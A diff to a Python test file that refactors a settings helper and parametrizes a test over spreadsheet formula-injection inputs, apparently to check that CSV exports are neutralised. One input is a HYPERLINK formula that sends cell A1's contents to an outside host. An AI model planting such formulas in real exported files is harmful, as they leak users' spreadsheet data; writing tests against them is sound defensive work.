@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import csv
 import io
-from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -21,7 +20,7 @@ FORMULAS = ['=HYPERLINK("https://exemple.fr/?d="&A1;"clic")', "+33 1 23", "-1", 
 
 def lexical(db: Database) -> Settings:
     """Editing tags and indexes the entry it saves: without a model, from the taxonomy's words alone."""
-    return replace(Settings(), db_url=db.url, embedder="none")
+    return Settings().model_copy(update={"db_url": db.url, "embedder": "none"})
 
 
 @pytest.mark.parametrize("cell", FORMULAS)
